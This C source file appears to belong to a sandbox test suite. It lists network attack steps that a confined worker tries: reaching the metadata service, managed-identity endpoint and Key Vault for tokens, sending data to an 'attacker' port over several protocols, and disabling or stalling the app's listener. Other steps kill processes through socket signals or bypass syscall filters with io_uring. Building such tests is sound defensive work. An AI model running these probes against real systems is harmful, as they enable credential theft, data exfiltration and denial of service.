/* Ways out and in by sockets, and what can be done to the socket that the worker has. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static struct sockaddr_in address_of(const char *text, long port)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, text, &address.sin_addr);
    return address;
}

static struct attack_result connect_to(int family, int type, const void *address, socklen_t length)
{
    int fd = socket(family, type | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        return attack_refused("socket");
    }
    int result = connect(fd, address, length);
    if (result < 0 && errno == EINPROGRESS) {
        return attack_succeeded("on its way");
    }
    return attack_judge(result, "connect", "connected");
}

static struct attack_result connect_local(long port)
{
    struct sockaddr_in address = address_of("127.0.0.1", port);
    return connect_to(AF_INET, SOCK_STREAM, &address, sizeof(address));
}

static struct attack_result connect_identity(const struct attack_target *target)
{
    return connect_local(attack_number(target, "identity"));
}

static struct attack_result connect_metadata(const struct attack_target *target)
{
    (void)target;
    struct sockaddr_in address = address_of("169.254.169.254", 80);
    struct attack_result result = connect_to(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, &address, sizeof(address));
    bool is_unreachable = result.outcome == ATTACK_REFUSED &&
                          (result.error == ENETUNREACH || result.error == EHOSTUNREACH);
    return is_unreachable ? attack_not_here("no way to 169.254.169.254 from this machine") : result;
}

static struct attack_result connect_vault(const struct attack_target *target)
{
    return connect_local(attack_number(target, "vault"));
}

static struct attack_result connect_host(const struct attack_target *target)
{
    return connect_local(attack_number(target, "host"));
}

static struct attack_result connect_attacker(const struct attack_target *target)
{
    return connect_local(attack_number(target, "tcp"));
}

static struct attack_result connect_attacker_6(const struct attack_target *target)
{
    long port = attack_number(target, "tcp6");
    struct sockaddr_in6 address = {
        .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port), .sin6_addr = IN6ADDR_LOOPBACK_INIT};
    return port > 0 ? connect_to(AF_INET6, SOCK_STREAM, &address, sizeof(address))
                    : attack_not_here("this machine has no IPv6");
}

static struct attack_result send_datagram(const struct attack_target *target)
{
    struct sockaddr_in address = address_of("127.0.0.1", attack_number(target, "udp"));
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        return attack_refused("socket");
    }
    return attack_judge(sendto(fd, "out", 3, 0, (struct sockaddr *)&address, sizeof(address)), "sendto", "sent");
}

static struct attack_result connect_unix(const char *path, bool is_abstract)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t offset = is_abstract ? 1 : 0;
    size_t length = strlen(path);
    if (length + offset >= sizeof(address.sun_path)) {
        return attack_not_here("the path is too long");
    }
    memcpy(address.sun_path + offset, path, length);
    return connect_to(AF_UNIX, SOCK_STREAM, &address,
                      (socklen_t)(offsetof(struct sockaddr_un, sun_path) + offset + length + (is_abstract ? 0 : 1)));
}

static struct attack_result connect_unix_path(const struct attack_target *target)
{
    return connect_unix(attack_text(target, "unix"), false);
}

static struct attack_result connect_unix_abstract(const struct attack_target *target)
{
    return connect_unix(attack_text(target, "abstract"), true);
}

static struct attack_result ask_kernel_for_routes(const struct attack_target *target)
{
    (void)target;
    struct sockaddr_nl address = {.nl_family = AF_NETLINK};
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (fd < 0) {
        return attack_refused("socket");
    }
    return attack_judge(bind(fd, (struct sockaddr *)&address, sizeof(address)), "bind", "the kernel answers");
}

static struct attack_result open_raw_socket(const struct attack_target *target)
{
    (void)target;
    return attack_judge(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP), "socket", "open");
}

static struct attack_result open_packet_socket(const struct attack_target *target)
{
    (void)target;
    return attack_judge(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)), "socket", "open");
}

static struct attack_result listen_for_attacker(const struct attack_target *target)
{
    (void)target;
    struct sockaddr_in address = address_of("127.0.0.1", 0);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        return attack_refused("socket");
    }
    if (bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0) {
        return attack_refused("bind");
    }
    return attack_judge(listen(fd, 1), "listen", "listens");
}

static struct attack_result fast_open(int fd, long port)
{
    struct sockaddr_in address = address_of("127.0.0.1", port);
    ssize_t sent = sendto(fd, "out", 3, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&address, sizeof(address));
    return attack_judge(sent < 0 && errno == EINPROGRESS ? 0 : sent, "sendto", "sent");
}

static struct attack_result connect_by_sending(const struct attack_target *target)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    return fd < 0 ? attack_refused("socket") : fast_open(fd, attack_number(target, "tcp"));
}

static struct attack_result connect_listener(const struct attack_target *target)
{
    if (shutdown(ATTACK_LISTENER(target), SHUT_RDWR) < 0) {
        return attack_refused("shutdown");
    }
    return fast_open(ATTACK_LISTENER(target), attack_number(target, "tcp"));
}

static struct attack_result stop_listener(const struct attack_target *target)
{
    return attack_judge(shutdown(ATTACK_LISTENER(target), SHUT_RDWR), "shutdown", "the app is off");
}

static struct attack_result turn_listener_off_by_filter(const struct attack_target *target)
{
    struct sock_filter drop = {.code = BPF_RET | BPF_K, .k = 0};
    struct sock_fprog program = {.len = 1, .filter = &drop};
    int fd = ATTACK_LISTENER(target);
    int locked = 1;
    if (setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof(program)) < 0) {
        return attack_refused("setsockopt");
    }
    return attack_judge(setsockopt(fd, SOL_SOCKET, SO_LOCK_FILTER, &locked, sizeof(locked)), "setsockopt",
        "off for good");
}

static struct attack_result delay_listener(const struct attack_target *target)
{
    int seconds = 3600;
    return attack_judge(setsockopt(ATTACK_LISTENER(target), IPPROTO_TCP, TCP_DEFER_ACCEPT, &seconds, sizeof(seconds)),
                        "setsockopt", "callers wait");
}

static struct attack_result shorten_queue(const struct attack_target *target)
{
    return attack_judge(listen(ATTACK_LISTENER(target), 0), "listen", "one caller at a time");
}

static struct attack_result signal_by_socket(const struct attack_target *target)
{
    int fd = ATTACK_LISTENER(target);
    if (fcntl(fd, F_SETOWN, (int)attack_number(target, "launcher")) < 0) {
        return attack_refused("fcntl");
    }
    return attack_judge(fcntl(fd, F_SETSIG, SIGKILL), "fcntl", "the next caller kills another process");
}

static struct attack_result arm_signal_by_socket(const struct attack_target *target)
{
    int is_on = 1;
    return attack_judge(ioctl(ATTACK_LISTENER(target), FIOASYNC, &is_on), "ioctl", "armed");
}

static struct attack_result redirect_host(const struct attack_target *target)
{
    (void)target;
    return attack_succeeded("answered with a redirect");
}

static struct attack_result open_ring(const struct attack_target *target)
{
    (void)target;
    char parameters[120] = {0};
    long fd = syscall(SYS_io_uring_setup, 4, parameters);
    return attack_judge(fd, "io_uring_setup", "a way around all other system calls");
}

#define CONNECT (BY_SECCOMP | BY_LANDLOCK_NETWORK)

static const struct attack_step steps[] = {
    {"connect-identity", "Ask the managed identity endpoint for a token", connect_identity, CONNECT, "socket", NULL, 0},
    {"connect-metadata", "Ask the machine's metadata service for a token", connect_metadata, CONNECT, "socket", NULL,
     0},
    {"connect-vault", "Ask Key Vault for secrets", connect_vault, CONNECT, "socket", NULL, 0},
    {"connect-host", "Call the Functions host from inside", connect_host, CONNECT, "socket", NULL, 0},
    {"connect-attacker", "Send what was found to the attacker", connect_attacker, CONNECT, "socket", NULL, 0},
    {"connect-attacker-ipv6", "The same over IPv6", connect_attacker_6, CONNECT, "socket", NULL, 0},
    {"connect-by-sending", "The same without a connect, by TCP Fast Open", connect_by_sending, BY_SECCOMP, "socket",
     NULL, 0},
    {"send-datagram", "The same by UDP, as DNS tunnels do", send_datagram, BY_SECCOMP, "socket", NULL, 0},
    {"connect-unix-path", "Reach a local service, as a container engine's socket", connect_unix_path, BY_SECCOMP,
     "socket", NULL, 0},
    {"connect-unix-abstract", "Reach a local service without a file", connect_unix_abstract, BY_SECCOMP
     | BY_LANDLOCK_SCOPE,
     "socket", NULL, 0},
    {"ask-kernel-for-routes", "Learn the machine's network", ask_kernel_for_routes, BY_SECCOMP, "socket", NULL, 0},
    {"raw-socket", "Make packets by hand", open_raw_socket, BY_SECCOMP | BY_UNPRIVILEGED, "socket", NULL, NEEDS_ROOT},
    {"packet-socket", "Listen to the machine's traffic", open_packet_socket, BY_SECCOMP | BY_UNPRIVILEGED, "socket",
     NULL,
     NEEDS_ROOT},
    {"listen-for-attacker", "Open a port for the attacker to come in", listen_for_attacker, CONNECT, "socket", NULL, 0},
    {"connect-listener", "Turn the app's own socket into a connection to the attacker", connect_listener, BY_SECCOMP,
     "shutdown",
     NULL, 0},
    {"stop-listener", "Stop the app from taking requests", stop_listener, BY_SECCOMP, "shutdown", NULL, 0},
    {"filter-listener", "The same by a filter that nobody can remove", turn_listener_off_by_filter, BY_SECCOMP,
     "setsockopt",
     NULL, 0},
    {"delay-listener", "Let all callers wait", delay_listener, BY_SECCOMP, "setsockopt", NULL, 0},
    {"shorten-queue", "Let all callers but one be turned away", shorten_queue, BY_SECCOMP, "listen", NULL, 0},
    {"signal-by-socket", "Have the next request kill another process", signal_by_socket, BY_SECCOMP, "fcntl", NULL, 0},
    {"arm-signal-by-socket", "The same, the switch for it", arm_signal_by_socket, BY_SECCOMP, "ioctl", NULL, 0},
    {"redirect-host", "Have the Functions host call the attacker, by a redirect", redirect_host, BY_HOST_MODE, NULL,
     NULL,
     SEEN_OUTSIDE},
    {"io-uring", "Make system calls in a way that filters do not see", open_ring, BY_SECCOMP, "io_uring_setup", NULL,
     0},
};

const struct attack_group attack_network = {"network", "Network", steps, sizeof(steps) / sizeof(steps[0])};
